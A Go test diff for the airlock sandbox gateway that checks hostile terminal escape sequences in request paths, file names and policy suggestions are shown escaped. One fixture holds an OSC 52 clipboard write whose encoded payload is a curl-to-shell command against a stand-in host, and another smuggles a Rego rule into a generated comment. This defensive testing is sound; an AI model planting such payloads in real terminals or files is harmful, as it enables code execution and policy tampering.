@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"context"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -20,6 +21,7 @@ import (
 	"github.com/airlock-dev/airlock/audit/audittest"
 	"github.com/airlock-dev/airlock/client"
 	"github.com/airlock-dev/airlock/termtext"
+	"github.com/airlock-dev/airlock/test/roottest"
 )
 
 // hostile is text a sandbox chooses for a value airlock logs and prints: CSI
@@ -297,5 +299,111 @@ func TestHostileTextInErrors(t *testing.T) {
 				t.Errorf("got %q, want the value shown escaped", errb.String())
 			}
 		})
+	}
+}
+
+// TestRootHostileRequestEscaped runs a real sandbox whose curl sends, through
+// the gateway, a request whose path (percent-decoded by the gateway) and
+// query key hold CSI erase-line and cursor-up, a carriage return, a
+// right-to-left override, a C1 CSI and an isolate: the audit log keeps them
+// exactly, and audit query, tail and run's summary show them escaped. The
+// target is loopback: policy denies it and the address guard refuses it, so
+// even a broken gateway could reach nothing but this machine's discard port.
+func TestRootHostileRequestEscaped(t *testing.T) {
+	roottest.Require(t)
+	auditPath := filepath.Join(t.TempDir(), "audit.jsonl")
+	target := "http://127.0.0.1:9/%1b%5b2K%1b%5b1A%0d%e2%80%ae%c2%9b2K%e2%81%a6x?k%1b%5b2K=v"
+	stderr, code := runRunCmd(t, "--no-daemon", "--audit", auditPath, "--",
+		"curl", "-sS", "--max-time", "20", "--noproxy", "", "-x", "http://127.0.0.1:3128", "-o", "/dev/null", "-w", "%{http_code}", target)
+	if code != 0 {
+		t.Fatalf("run: exit %d: %s", code, stderr)
+	}
+	checkShown(t, "run's stderr", stderr)
+	t.Logf("run: %s", stderr)
+
+	var logged *audit.Record
+	err := audit.Query(context.Background(), []string{auditPath}, audit.Filter{Kind: audit.KindHTTP}, func(r *audit.Record) error {
+		logged = r
+		return nil
+	})
+	if err != nil || logged == nil {
+		t.Fatalf("no http record in the log (%v)", err)
+	}
+	if want := "/\x1b[2K\x1b[1A\r\u202e\u009b2K\u2066x"; logged.Path != want || logged.Decision != audit.DecisionDeny {
+		t.Fatalf("logged %s path %q, want a denial of %q", logged.Decision, logged.Path, want)
+	}
+	for _, args := range [][]string{{"query", "--file", auditPath}, {"query", "--file", auditPath, "--by", "host"}, {"tail", auditPath}} {
+		out, err := runAudit(t, args...)
+		if err != nil {
+			t.Fatalf("audit %s: %v", args, err)
+		}
+		checkShown(t, "audit "+args[0], out)
+	}
+	out, _ := runAudit(t, "query", "--file", auditPath, "--kind", "http")
+	t.Logf("audit query:\n%s", out)
+	if !strings.Contains(out, `GET /\x1b[2K\x1b[1A\r\u202e\u009b2K\u2066x`) {
+		t.Errorf("audit query: got\n%s\nwant the path shown escaped", out)
+	}
+}
+
+// TestHostileFileNameInCpError: a file a sandbox names with an OSC 52
+// clipboard write and a cursor move reaches the error `sandbox cp` prints
+// when the copy cannot place it (a local directory is in the way); the
+// error shows the name escaped.
+func TestHostileFileNameInCpError(t *testing.T) {
+	srv, run := fakeCLI(t)
+	id := mustCreate(t, run)
+	name := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\a\x1b[1A\x1b[2Kok\u202e"
+	if err := os.MkdirAll(filepath.Join(srv.Dir(id), "out"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(srv.Dir(id), "out", name), []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dst := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(dst, "out", name), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	_, errOut, code := run("", "sandbox", "cp", id+":out", dst)
+	if code == 0 {
+		t.Fatalf("cp over a directory: got exit 0, %q", errOut)
+	}
+	checkShown(t, "sandbox cp's error", errOut)
+	if !strings.Contains(errOut, `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2Kok\u202e`) {
+		t.Errorf("got %q, want the file's name shown escaped", errOut)
+	}
+}
+
+// TestPolicySuggestHostilePath: a path with a byte-order mark (a request for
+// /%EF%BB%BF) made policy suggest fail for everyone (the generated test's
+// comment carried it raw: "rego_parse_error: illegal byte-order mark"); a
+// path with a carriage return could rewrite the comment on a terminal. The
+// comment is escaped now, and the test the record became passes.
+func TestPolicySuggestHostilePath(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "audit.jsonl")
+	w, err := audit.New(audit.Config{File: path}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = w.Log(&audit.Record{Sandbox: "sb-1", Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Mode: "report",
+		Reasons: []audit.Reason{{ID: "default_deny", Msg: "m"}}, Host: "api.example-ai.dev", Port: 443, Method: "GET",
+		Path: "/\ufeffv1\rtest_pwned if { true }"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(t.TempDir(), "suggested")
+	if out, errOut, code := runPolicy(t, "", "suggest", "--from", path, "--out", dir); code != 0 {
+		t.Fatalf("suggest: exit %d\n%s\n%s", code, out, errOut)
+	}
+	out, errOut, code := runPolicy(t, "", "test", dir)
+	if code != 0 || strings.Contains(out, "pwned") || !strings.Contains(out, "test_allowed_1") {
+		t.Fatalf("policy test: exit %d\n%s\n%s", code, out, errOut)
+	}
+	b, _ := os.ReadFile(filepath.Join(dir, "suggested_test.rego"))
+	if !strings.Contains(string(b), `# seq 1: http api.example-ai.dev:443 GET /\ufeffv1\rtest_pwned if { true }`) {
+		t.Errorf("suggested_test.rego: got\n%s\nwant the path escaped in its comment", b)
 	}
 }
